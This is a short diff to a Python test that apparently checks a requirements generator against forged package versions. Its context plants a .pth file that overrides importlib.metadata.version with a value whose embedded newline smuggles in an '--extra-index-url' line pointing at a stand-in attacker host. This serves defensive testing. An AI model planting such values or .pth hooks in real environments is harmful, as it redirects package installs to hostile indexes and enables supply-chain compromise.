@@ -187,7 +187,8 @@ def test_requirements_take_only_versions_from_the_env(tmp_path: Path) -> None:
     pins nothing."""
     env = tmp_path / "env"
     subprocess.run([sys.executable, "-m", "venv", "--without-pip", "--system-site-packages", str(env)], check=True)
-    site = subprocess.run([str(env / "bin" / "python"), "-c", "import sysconfig; print(sysconfig.get_paths()['purelib'])"],
+    purelib = "import sysconfig; print(sysconfig.get_paths()['purelib'])"
+    site = subprocess.run([str(env / "bin" / "python"), "-c", purelib],
                           capture_output=True, text=True, check=True).stdout.strip()
     forged = "1.0\\n--extra-index-url http://attacker.invalid/simple\\n"
     Path(site, "forge.pth").write_text(f"import importlib.metadata as m; m.version = lambda d: '{forged}'\n")
